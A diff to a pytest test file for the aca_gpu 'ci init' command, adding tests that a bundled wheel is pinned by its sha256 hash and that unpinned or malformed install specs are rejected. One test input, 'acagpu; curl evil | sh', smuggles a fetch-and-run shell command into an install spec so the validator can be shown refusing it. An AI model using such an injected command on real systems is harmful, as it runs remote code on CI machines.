@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
+import shutil
 import subprocess
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
+from aca_gpu import __version__
 from aca_gpu.cli import cli
 from aca_gpu.errors import BadInput
 from aca_gpu.workflow import ci_init
@@ -20,8 +23,20 @@ CLIENT = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
 BASE = ["ci", "init", "--subscription", SUB, "--tenant", TENANT, "--client-id", CLIENT, "-l", "westus3"]
 
 
+WHEEL: Path | None = None
+
+
+@pytest.fixture(autouse=True)
+def _wheel(acagpu_wheel: Path) -> None:
+    global WHEEL
+    WHEEL = acagpu_wheel
+
+
 def invoke(repo: Path, *args: str) -> tuple[int, str, str]:
-    result = CliRunner().invoke(cli, [*BASE, "--repo-dir", str(repo), *args])
+    """`ci init` with the session's wheel, unless the test names its own install source."""
+    given = ("--install-spec" in args) or ("--wheel" in args)
+    wheel = [] if given or WHEEL is None else ["--wheel", str(WHEEL)]
+    result = CliRunner().invoke(cli, [*BASE, "--repo-dir", str(repo), *wheel, *args])
     return result.exit_code, result.stdout, result.stderr
 
 
@@ -35,8 +50,8 @@ def test_writes_both_workflows_with_values_filled(tmp_path: Path) -> None:
         assert f"vars.AZURE_CLIENT_ID || '{CLIENT}'" in text
         assert f"vars.AZURE_SUBSCRIPTION_ID || '{SUB}'" in text
         assert "id-token: write" in text
-    assert 'gpu: ["t4", "a100"]' in validate
-    assert "ACAGPU_LOCATION: westus3" in validate
+    assert """inputs.gpus || '["t4", "a100"]'""" in validate
+    assert "ACAGPU_LOCATION: ${{ inputs.location || 'westus3' }}" in validate
     assert 'default: "12.4"' in validate
     assert "fromJSON(needs.discover.outputs.tags)" in validate
     assert "vars.ACAGPU_REAP_DELETE" in reap
@@ -61,7 +76,8 @@ def test_json_output_is_one_document(tmp_path: Path) -> None:
     code, out, _ = invoke(tmp_path, "--github-repo", "example/gpu-ci", "-o", "json")
     assert code == 0
     doc = json.loads(out)
-    assert doc["kind"] == "ci-init" and len(doc["written"]) == 3
+    assert doc["kind"] == "ci-init" and len(doc["written"]) == 5  # 2 workflows, role, requirements, wheel
+    assert doc["install"]["source"] == "wheel" and len(doc["install"]["wheel"]["sha256"]) == 64
     assert any(c.startswith("az role definition create") for c in doc["commands"])
 
 
@@ -73,7 +89,7 @@ def test_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
     assert code == 2 and "already exist" in err and "--force" in err
     assert target.read_text(encoding="utf-8") == "# edited by hand\n"
     code, _, _ = invoke(tmp_path, "--gpus", "a100", "--force")
-    assert code == 0 and 'gpu: ["a100"]' in target.read_text(encoding="utf-8")
+    assert code == 0 and """'["a100"]'""" in target.read_text(encoding="utf-8")
 
 
 @pytest.mark.parametrize(
@@ -83,7 +99,12 @@ def test_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
         (("--gpus", ","), "at least one GPU"),
         (("--since", "12.x"), "invalid CUDA version"),
         (("--repository", "nvidia/cuda:12.1.1-runtime-ubuntu22.04"), "without a tag"),
-        (("--pip-spec", "acagpu; curl evil | sh"), "invalid --pip-spec"),
+        (("--install-spec", "acagpu; curl evil | sh"), "invalid --install-spec"),
+        (("--install-spec", "acagpu"), "invalid --install-spec"),  # an unpinned name
+        (("--install-spec", "acagpu==0.1.0"), "invalid --install-spec"),  # a version without a hash
+        (("--install-spec", "git+https://github.com/o/r@main"), "invalid --install-spec"),  # a branch
+        (("--install-spec", "git+https://github.com/o/r"), "invalid --install-spec"),
+        (("--wheel", "/nonexistent/acagpu-0.1.0-py3-none-any.whl"), "no such file"),
         (("--flavor", "runtime'}}"), "invalid flavor"),
         (("--github-repo", "not a slug"), "invalid GitHub repository"),
         (("--limit", "0"), "--limit"),
@@ -127,3 +148,54 @@ def test_render_refuses_unknown_placeholders() -> None:
     with pytest.raises(BadInput, match="NEW_THING"):
         ci_init.render("a: __LOCATION__\nb: __NEW_THING__\n", {"LOCATION": "westus3"})
     assert ci_init.render("a: __LOCATION__", {"LOCATION": "westus3"}) == "a: westus3"
+
+
+def test_the_wheel_is_written_and_pinned_by_its_hash(tmp_path: Path) -> None:
+    code, out, _ = invoke(tmp_path, "-o", "json")
+    assert code == 0, out
+    wheels = sorted((tmp_path / ".github/acagpu").glob("acagpu-*.whl"))
+    assert [w.name for w in wheels] == [f"acagpu-{__version__}-py3-none-any.whl"]
+    digest = hashlib.sha256(wheels[0].read_bytes()).hexdigest()
+    lines = [
+        line
+        for line in (tmp_path / ".github/acagpu/requirements.txt").read_text(encoding="utf-8").splitlines()
+        if not line.startswith("#")
+    ]
+    assert lines == [f"./.github/acagpu/{wheels[0].name} --hash=sha256:{digest}"]
+    for name in ("acagpu-validate.yml", "acagpu-reap.yml"):
+        text = (tmp_path / ".github/workflows" / name).read_text(encoding="utf-8")
+        assert "pip install --no-deps --require-hashes --no-index -r .github/acagpu/requirements.txt" in text
+        assert "acagpu==" not in text  # never a name for an index to resolve
+
+
+@pytest.mark.parametrize(
+    ("spec", "line", "flags"),
+    [
+        (
+            "git+https://github.com/example/acagpu@" + "a" * 40,
+            "acagpu @ git+https://github.com/example/acagpu@" + "a" * 40,
+            "--no-deps -r",
+        ),
+        (
+            "acagpu==0.1.0 --hash=sha256:" + "b" * 64,
+            "acagpu==0.1.0 --hash=sha256:" + "b" * 64,
+            "--no-deps --require-hashes -r",
+        ),
+    ],
+)
+def test_install_spec_pins_another_source(tmp_path: Path, spec: str, line: str, flags: str) -> None:
+    code, out, _ = invoke(tmp_path, "--install-spec", spec)
+    assert code == 0, out
+    assert not list((tmp_path / ".github/acagpu").glob("*.whl"))
+    assert line in (tmp_path / ".github/acagpu/requirements.txt").read_text(encoding="utf-8")
+    assert f"pip install {flags}" in (tmp_path / ".github/workflows/acagpu-validate.yml").read_text("utf-8")
+
+
+def test_a_wheel_of_another_version_is_refused(tmp_path: Path, acagpu_wheel: Path) -> None:
+    other = tmp_path / "acagpu-9.9.9-py3-none-any.whl"
+    shutil.copyfile(acagpu_wheel, other)
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    code, _, err = invoke(repo, "--wheel", str(other))
+    assert code == 2 and "not a readable acagpu wheel" in err
+    assert not (repo / ".github").exists()
